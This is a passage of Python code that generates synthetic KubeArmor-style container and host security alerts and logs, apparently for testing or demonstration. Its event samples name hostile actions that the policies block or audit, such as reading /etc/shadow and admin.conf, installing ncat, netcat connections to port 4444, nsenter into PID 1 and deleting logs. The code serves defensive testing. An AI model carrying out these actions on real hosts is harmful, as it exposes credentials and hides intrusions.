            "CAP_NET_ADMIN": "/sbin/ip", "CAP_SYS_MODULE": "/sbin/insmod", "CAP_SETUID": "/usr/bin/su",
            "CAP_CHOWN": "/bin/chown", "CAP_DAC_OVERRIDE": "/bin/cat"}[cap]
    d = {"Operation": "Capabilities", "Source": tool, "ProcessName": tool, "ParentProcessName": c.shell,
         "Resource": cap, "Data": f"lsm=CAPABLE {cap}"}
    d.update(_pol(f"ksp-{c.app}-block-{cap[4:].lower().replace('_', '-')}", "5", _T_CAP))
    if rng.random() < 0.75:
        d.update(_enf("block_bpf", rng, errno=rng.choice(("Permission denied", "Operation not permitted"))))
    else:
        d.update({"Action": "Audit", "Enforcer": "BPFLSM", "Result": "Passed"})
    return _newer(rng, d, tool, lsm="CAPABLE")


def _s_syscall(rng: random.Random, c: Ctx) -> Dict[str, Any]:
    x = rng.randrange(4)
    if x == 0:
        tool, path = rng.choice((("/usr/bin/unlink", "/home/secret.txt"), ("/bin/rmdir", "/home/jane-doe"),
                                 ("/bin/rm", "/var/log/nginx/access.log")))
        sc = "SYS_RMDIR" if "rmdir" in tool else "SYS_UNLINK"
        d = {"Source": f"{tool} {path}", "ProcessName": tool, "Resource": path, "Data": f"syscall={sc}"}
        d.update(_pol("audit-home-rmdir" if sc == "SYS_RMDIR" else "audit-all-unlink", "3", _T_UNLINK))
        d.update(_enf("audit", rng))
    elif x == 1:
        d = {"Source": "/bin/mount -t tmpfs none /mnt", "ProcessName": "/bin/mount", "Resource": "",
             "Data": "syscall=SYS_MOUNT source=none target=/mnt filesystem=tmpfs mountflag=0 data="}
        d.update(_pol(f"ksp-{c.app}-audit-mount", "4", _T_MOUNT))
        d.update(_enf(_mode(rng, 0.4), rng))
    elif x == 2:
        d = {"Source": "/bin/umount /mnt", "ProcessName": "/bin/umount", "Resource": "",
             "Data": "syscall=SYS_UMOUNT target=/mnt flag=0"}
        d.update(_pol(f"ksp-{c.app}-audit-mount", "4", _T_MOUNT))
        d.update(_enf("audit", rng))
    else:
        sc = rng.choice(("SYS_SETUID", "SYS_SETGID"))
        d = {"Source": c.main_cmd, "ProcessName": c.main, "Resource": "", "Data": f"syscall={sc} userid=0"}
        d.update(_DEFAULT_POSTURE)
        d.update(_enf("block_bpf", rng, errno="Operation not permitted"))
    d["Operation"] = "Syscall"
    d["ParentProcessName"] = c.shell
    return _newer(rng, d, d["ProcessName"])


def _s_alert_threshold(rng: random.Random, c: Ctx) -> Dict[str, Any]:
    return {"Operation": "AlertThreshold", "Enforcer": "BPFLSM", "Result": "Passed",
            "MaxAlertsPerSec": rng.choice((10, 10, 5, 2)), "DroppingAlertsInterval": rng.choice((30, 30, 60)),
            "PPID": 0, "UID": 0}


# host scenarios ------------------------------------------------------------------------------

def _s_host_process(rng: random.Random, c: Ctx) -> Dict[str, Any]:
    tool, args, pol, sev, text = rng.choice((
        ("/usr/bin/sleep", "10", "hsp-kubearmor-dev-proc-path-block", "1", ("", "")),
        ("/usr/bin/apt-get", "install -y ncat", "block-pkg-mgmt-tools", "10",
         ("ALERT", "apt was attempted to be executed")),
        ("/usr/bin/ps", "-ef", "discovery-process-discovery", "5", _T_HOSTPROC),
        ("/usr/bin/who", "", "discovery-process-discovery", "5", _T_HOSTPROC),
        ("/usr/bin/nsenter", "-t 1 -m -u -i -n", "hsp-block-nsenter", "9", _T_CAP),
        ("/usr/bin/crictl", "exec -it 4771ac3e sh", "hsp-audit-crictl", "6", _T_K8S),
    ))
    bpf = rng.random() < 0.5
    d = {"Operation": "Process", "Source": c.shell, "ProcessName": tool, "ParentProcessName": c.shell,
         "Resource": f"{tool} {args}".strip(), "Data": "lsm=SECURITY_BPRM_CHECK" if bpf else "syscall=SYS_EXECVE"}
    d.update(_pol(pol, sev, text) if text[0] else {"PolicyName": pol, "Severity": sev, "Tags": "", "ATags": None,
                                                   "Message": ""})
    if pol.startswith("discovery") or pol.startswith("hsp-audit"):
        d.update(_enf("audit", rng))
    else:
        d.update(_enf("block_bpf" if bpf else "block_apparmor", rng))
    return _newer(rng, d, tool, lsm="SECURITY_BPRM_CHECK" if bpf else None)


def _s_host_file(rng: random.Random, c: Ctx) -> Dict[str, Any]:
    path = rng.choice(("/etc/hosts", "/etc/shadow", "/etc/sudoers", "/etc/ssh/sshd_config",
                       "/var/lib/kubelet/config.yaml", "/etc/kubernetes/admin.conf"))
    tool = rng.choice(("/usr/bin/vim", "/usr/bin/cat", "/usr/bin/nano", "/usr/bin/sed"))
    bpf = rng.random() < 0.5
    d = {"Operation": "File", "Source": f"{tool} {path}", "ProcessName": tool, "ParentProcessName": c.shell,
         "Resource": path, "Data": "lsm=FILE_OPEN" if bpf else "syscall=SYS_OPENAT fd=-100 flags=O_RDWR|O_CREAT"}
    d.update(_pol("hsp-fim-etc", "3", _T_FIM))
    d.update(_enf("audit", rng) if rng.random() < 0.6 else _enf("block_bpf" if bpf else "block_apparmor", rng))
    if bpf and d["Action"] == "Audit":
        d["Enforcer"] = "BPFLSM"
    if rng.random() < 0.3:
        d.update({"ProcessHash": rand_hex(rng, 64), "ParentHash": rand_hex(rng, 64), "ResourceHash": rand_hex(rng, 64),
                  "HashAlgo": "sha256"})
    return _newer(rng, d, tool, lsm="FILE_OPEN" if bpf else None)


def _s_host_network(rng: random.Random, c: Ctx) -> Dict[str, Any]:
    tool = rng.choice(("/usr/bin/curl", "/usr/bin/wget", "/usr/bin/ssh", "/usr/bin/nc"))
    ip = rng.choice(_EXTERNAL_V4)
    if rng.random() < 0.5:
        res, data = f"remoteip={ip} port=443 protocol=TCP", "kprobe=tcp_connect domain=AF_INET"
    else:
        res = _sockaddr(rng, "AF_INET", ip, rng.choice((22, 443, 4444)))
        data = f"syscall=SYS_CONNECT fd={rng.randrange(3, 9)}"
    d = {"Operation": "Network", "Source": f"{tool} {ip}", "ProcessName": tool, "ParentProcessName": c.shell,
         "Resource": res, "Data": data}
    d.update(_pol("hsp-audit-egress", "4", _T_EGRESS))
    d.update(_enf("audit", rng))
    return _newer(rng, d, tool)


def _s_host_capabilities(rng: random.Random, c: Ctx) -> Dict[str, Any]:
    cap, tool = rng.choice((("CAP_SYS_MODULE", "/usr/sbin/insmod"), ("CAP_SYS_ADMIN", "/usr/bin/mount"),
                            ("CAP_NET_RAW", "/usr/sbin/tcpdump"), ("CAP_SYS_PTRACE", "/usr/bin/gdb")))
    d = {"Operation": "Capabilities", "Source": f"{c.shell}", "ProcessName": tool, "ParentProcessName": c.shell,
         "Resource": cap, "Data": f"lsm=CAPABLE {cap}"}
    d.update(_pol("hsp-block-dangerous-caps", "8", _T_CAP))
    d.update(_enf("block_bpf", rng, errno="Operation not permitted"))
    return _newer(rng, d, tool, lsm="CAPABLE")


def _s_host_syscall(rng: random.Random, c: Ctx) -> Dict[str, Any]:
    if rng.random() < 0.6:
        sc = rng.choice(("SYS_SETUID", "SYS_SETGID"))
        d = {"Source": "/usr/sbin/sshd", "ProcessName": "/usr/sbin/sshd", "ParentProcessName": "/usr/sbin/sshd",
             "Data": f"syscall={sc} userid=0", "UID": 204}
        d.update(_DEFAULT_POSTURE)
        d.update(_enf("block_bpf", rng, errno="Operation not permitted"))
    else:
        path = rng.choice(("/home/vagrant/secret.txt", "/home/jane-doe", "/var/log/syslog"))
        tool = "/usr/bin/rmdir" if path == "/home/jane-doe" else "/usr/bin/unlink"
        d = {"Source": f"{tool} {path}", "ProcessName": tool, "ParentProcessName": c.shell, "Resource": path,
             "Data": "syscall=SYS_RMDIR" if "rmdir" in tool else "syscall=SYS_UNLINK"}
        d.update(_pol("audit-home-rmdir" if "rmdir" in tool else "audit-all-unlink", "3", _T_UNLINK))
        d.update(_enf("audit", rng))
    d["Operation"] = "Syscall"
    return _newer(rng, d, d["ProcessName"])


def _s_host_device(rng: random.Random, c: Ctx) -> Dict[str, Any]:
    res, cls, sub, proto = rng.choice((("USB MASS-STORAGE", 8, 6, 80), ("USB HID", 3, 1, 1),
                                       ("USB WIRELESS-CONTROLLER", 224, 1, 1), ("USB AUDIO", 1, 1, 0)))
    port = f"{rng.randrange(1, 4)}-{rng.randrange(1, 6)}.{rng.randrange(1, 4)}"
    data = f"Class={cls} SubClass={sub} Protocol={proto} Level=2 SysPath=/sys/bus/usb/devices/{port}:1.0"
    block = rng.random() < 0.6
    d = {"Operation": "Device", "Resource": res, "Data": data, "PPID": 0, "UID": 0,
         "EventData": {"Class": str(cls), "Level": "2", "Protocol": str(proto), "SubClass": str(sub),
                       "SysPath": f"/sys/bus/usb/devices/{port}:1.0"},
         "Enforcer": "USBDeviceHandler", "Action": "Block" if block else "Audit",
         "Result": "Permission denied" if block else "Passed", "KubeArmorVersion": rng.choice(_KA_VERSIONS[3:])}
    kind = res[4:].lower().replace("-", " ")
    d.update(_pol("hsp-usb-device-block", "7", (_T_USB[0], f"USB {kind} device {'blocked' if block else 'attached'}")))
    return d


def _s_network_firewall(rng: random.Random, c: Ctx) -> Dict[str, Any]:
    direction = rng.choice(("INGRESS", "EGRESS"))
    proto = rng.choice(("TCP", "TCP", "UDP", "ICMP"))
    peer = rng.choice(("192.168.29.42", "10.0.12.7", "203.0.113.25") + _EXTERNAL_V4[:3])
    sport, dport = (0, 0) if proto == "ICMP" else (rng.randrange(32768, 61000), rng.choice((22, 53, 443, 25, 3389)))
    src, dst = (peer, c.node_ip) if direction == "INGRESS" else (c.node_ip, peer)
    data = f"SourceIP={src} SourcePort={sport} DestinationIP={dst} DestinationPort={dport} Protocol={proto}"
    ed = {"DestinationIP": dst, "DestinationPort": str(dport), "Protocol": proto, "SourceIP": src,
          "SourcePort": str(sport)}
    if rng.random() < 0.15:
        level, limit = rng.choice(("pod", "policy")), rng.choice(("2MB", "10MB", "1GB"))
        data += f" QuotaLevel={level} QuotaLimit={limit}"
        ed.update({"QuotaLevel": level, "QuotaLimit": limit})
        pol = _pol("nsp-bandwidth-quota", "6", _T_QUOTA)
    elif dport == 22:
        pol = _pol("nsp-ingress-audit-ssh", "5", _T_SSH)
    else:
        pol = _pol(f"nsp-{direction.lower()}-{proto.lower()}-{dport}", "5",
                   ("NIST,NIST_800-53_SC-7", f"{direction.title()} {proto} traffic on port {dport}"))
    block = rng.random() < 0.3
    d = {"Operation": "NetworkFirewall", "Resource": direction, "Data": data, "EventData": ed, "PPID": 0, "UID": 0,
         "Enforcer": "NetworkPolicyEnforcer", "Action": "Block" if block else "Audit",
         "Result": "Permission denied" if block else "Passed", "ExecEvent": {}, "UserName": "root"}
    d.update(pol)
    return d


# (name, Type, Operation, weight, host?, builder)
SCENARIOS: Tuple[Tuple[str, str, str, float, bool, Callable[[random.Random, Ctx], Dict[str, Any]]], ...] = (
    ("pkg_exec", "MatchedPolicy", "Process", 7, False, _s_pkg_exec),
    ("exec_default_posture", "MatchedPolicy", "Process", 9, False, _s_exec_posture),
    ("exec_hardening", "MatchedPolicy", "Process", 7, False, _s_exec_hardening),
    ("exec_special", "MatchedPolicy", "Process", 3, False, _s_exec_special),
    ("file_secret", "MatchedPolicy", "File", 8, False, _s_file_secret),
    ("file_fim", "MatchedPolicy", "File", 7, False, _s_file_fim),
    ("file_bpflsm", "MatchedPolicy", "File", 4, False, _s_file_bpflsm),
    ("file_preset", "MatchedPolicy", "File", 3, False, _s_file_preset),
    ("file_errno", "MatchedPolicy", "File", 2, False, _s_file_errno),
    ("net_socket", "MatchedPolicy", "Network", 5, False, _s_net_socket),
    ("net_raw", "MatchedPolicy", "Network", 2, False, _s_net_raw),
    ("net_connect", "MatchedPolicy", "Network", 6, False, _s_net_connect),
    ("net_tcp", "MatchedPolicy", "Network", 5, False, _s_net_tcp),
    ("net_dns", "MatchedPolicy", "Network", 5, False, _s_net_dns),
    ("net_bpflsm", "MatchedPolicy", "Network", 3, False, _s_net_bpflsm),
    ("capabilities", "MatchedPolicy", "Capabilities", 3, False, _s_capabilities),
    ("syscall", "MatchedPolicy", "Syscall", 3, False, _s_syscall),
    ("alert_threshold", "SystemEvent", "AlertThreshold", 1, False, _s_alert_threshold),
    ("host_process", "MatchedHostPolicy", "Process", 6, True, _s_host_process),
    ("host_file", "MatchedHostPolicy", "File", 4, True, _s_host_file),
    ("host_network", "MatchedHostPolicy", "Network", 1.5, True, _s_host_network),
    ("host_capabilities", "MatchedHostPolicy", "Capabilities", 1, True, _s_host_capabilities),
    ("host_syscall", "MatchedHostPolicy", "Syscall", 3, True, _s_host_syscall),
    ("host_device", "MatchedHostPolicy", "Device", 1, True, _s_host_device),
    ("network_firewall", "MatchedNetworkPolicy", "NetworkFirewall", 4, True, _s_network_firewall),
)

#: Every (Type, Operation) pair :func:`generate_events` produces.
ALERT_COVERAGE = frozenset((s[1], s[2]) for s in SCENARIOS)


# --------------------------------------------------------------------------- log scenarios

def _l_process(rng: random.Random, c: Ctx) -> Dict[str, Any]:
    if c.host:
        tool, args = rng.choice((("/usr/bin/systemctl", "status kubelet"), ("/usr/sbin/iptables", "-w -L -n"),
                                 ("/usr/bin/runc", "--version"), ("/usr/bin/date", "+%s"),
                                 ("/usr/sbin/sshd", "-D -R"), ("/usr/bin/bash", "-c uptime")))
        parent = rng.choice(("/usr/lib/systemd/systemd", "/usr/bin/containerd", "/usr/bin/kubelet", c.shell))
    else:
        tool, args = rng.choice((("/bin/sh", "-c date"), ("/bin/ls", "-la"), ("/usr/bin/cat", "/etc/hostname"),
                                 ("/usr/bin/curl", "-s http://localhost:8080/healthz"), ("/bin/sleep", "5"),
                                 ("/usr/bin/python3", "-c print(1)"), (c.main, c.main_cmd.partition(" ")[2])))
        parent = rng.choice((c.shell, c.shim))
    d = {"Operation": "Process", "Source": parent, "ProcessName": tool, "ParentProcessName": parent,
         "Resource": f"{tool} {args}".strip(), "Data": rng.choice(("syscall=SYS_EXECVE",) * 5 +
                                                                  ("syscall=SYS_EXECVEAT fd=-100 flag=0",)),
         "Result": "Passed" if rng.random() < 0.95 else rng.choice(_ERRNOS[:3])}
    return _newer(rng, d, tool)


def _l_file(rng: random.Random, c: Ctx) -> Dict[str, Any]:
    path = rng.choice(("/etc/ld.so.cache", "/lib/x86_64-linux-gnu/libc.so.6", "/etc/nsswitch.conf",
                       "/etc/resolv.conf", "/proc/self/status", "/usr/lib/locale/locale-archive",
                       "/var/lib/kubelet/pods", "/etc/hosts", "/dev/null", "/sys/fs/cgroup/cpu.max"))
    tool = rng.choice((c.main, "/bin/ls", "/usr/bin/cat")) if not c.host else rng.choice(
        ("/usr/bin/kubelet", "/usr/bin/containerd", "/usr/lib/systemd/systemd-journald"))
    data = rng.choice((f"syscall=SYS_OPENAT fd=-100 flags={rng.choice(_FILE_FLAGS[:3])}",
                       "syscall=SYS_OPEN flags=O_RDONLY", f"syscall=SYS_CLOSE fd={rng.randrange(3, 30)}",
                       "syscall=SYS_UNLINKAT flags=", "syscall=SYS_FCHOWNAT userid=0 group=0 mode=0"))
    d = {"Operation": "File", "Source": tool if tool != c.main else c.main_cmd, "ProcessName": tool,
         "ParentProcessName": c.shim if not c.host else "/usr/lib/systemd/systemd",
         "Resource": "" if "SYS_CLOSE" in data else path, "Data": data,
         "Result": "Passed" if rng.random() < 0.9 else rng.choice(_ERRNOS[:2])}
    return _newer(rng, d, tool)


def _l_network(rng: random.Random, c: Ctx) -> Dict[str, Any]:
    x = rng.randrange(7)
    tool = c.main if not c.host else rng.choice(("/usr/bin/kubelet", "/usr/bin/containerd", "/usr/bin/curl"))
    fd = rng.randrange(3, 40)
    if x == 0:
        res, data = _sockaddr(rng, "AF_INET", c.dns_ip, 53), f"syscall=SYS_CONNECT fd={fd}"
    elif x == 1:
        ip = f"{c.svc_net}0.1"
        res = f"remoteip={ip} port=443 protocol=TCP"
        if not c.host and rng.random() < 0.5:
            res += " remotehost=svc/default/kubernetes"
        data = "kprobe=tcp_connect domain=AF_INET"
    elif x == 2:
        v6 = rng.random() < 0.4
        peer = f"{c.pod_net}{rng.randrange(1, 250)}"
        res = f"remoteip={'::ffff:' + peer if v6 else peer} port={rng.choice((80, 8080, 10250))} " \
              f"protocol={'TCPv6' if v6 else 'TCP'}"
        if not c.host and rng.random() < 0.3:
            res += f" remotehost=pod/{c.ns}/{c.app}-{rng.randrange(10, 99)}"
        data = f"kprobe=tcp_accept domain={'AF_INET6' if v6 else 'AF_INET'}"
    elif x == 3:
        q = rng.choice(_DOMAINS) + (f".{c.ns}.svc.cluster.local" if not c.host else "")
        res = "sa_family=AF_INET sin_port=53"
        data = rng.choice((f"kfunc=UDP_SENDMSG,domain={q},daddr={c.dns_ip},qtype=A",
                           f"kfunc=UDP_SENDSKB domain={q} daddr={c.dns_ip} qtype=AAAA"))
    elif x == 4:
        res = rng.choice(("domain=AF_INET type=SOCK_STREAM|SOCK_NONBLOCK|SOCK_CLOEXEC protocol=TCP",
                          "domain=AF_UNIX type=SOCK_STREAM|SOCK_CLOEXEC protocol=0",
                          "domain=AF_INET6 type=SOCK_DGRAM protocol=UDP"))
        data = "syscall=SYS_SOCKET"
    elif x == 5:
        res, data = _sockaddr(rng, "AF_INET", "0.0.0.0", rng.choice((8080, 9090, 6379))), f"syscall=SYS_BIND fd={fd}"
    else:
        res, data = "", f"syscall=SYS_LISTEN fd={fd}"
    d = {"Operation": "Network", "Source": c.main_cmd if tool == c.main else tool, "ProcessName": tool,
         "ParentProcessName": c.shim if not c.host else "/usr/lib/systemd/systemd", "Resource": res, "Data": data,
         "Result": "Passed" if rng.random() < 0.97 else "Connection refused"}
    return _newer(rng, d, tool)


def _l_syscall(rng: random.Random, c: Ctx) -> Dict[str, Any]:
    sc = rng.choice(("SYS_SETUID", "SYS_SETGID"))
    d = {"Operation": "Syscall", "Source": c.main_cmd if not c.host else "/usr/sbin/sshd",
         "ProcessName": c.main if not c.host else "/usr/sbin/sshd", "ParentProcessName": c.shim if not c.host else
         "/usr/sbin/sshd", "Data": f"syscall={sc} userid={rng.choice((0, 33, 999, 1000))}", "Result": "Passed"}
    return d


LOG_SCENARIOS: Tuple[Tuple[str, str, float, Callable[[random.Random, Ctx], Dict[str, Any]]], ...] = (
    ("process", "Process", 35, _l_process),
    ("file", "File", 35, _l_file),
    ("network", "Network", 25, _l_network),
    ("syscall", "Syscall", 5, _l_syscall),
)
#: Every (Type, Operation) pair :func:`generate_logs` produces.
LOG_COVERAGE = frozenset((t, s[1]) for t in ("ContainerLog", "HostLog") for s in LOG_SCENARIOS)

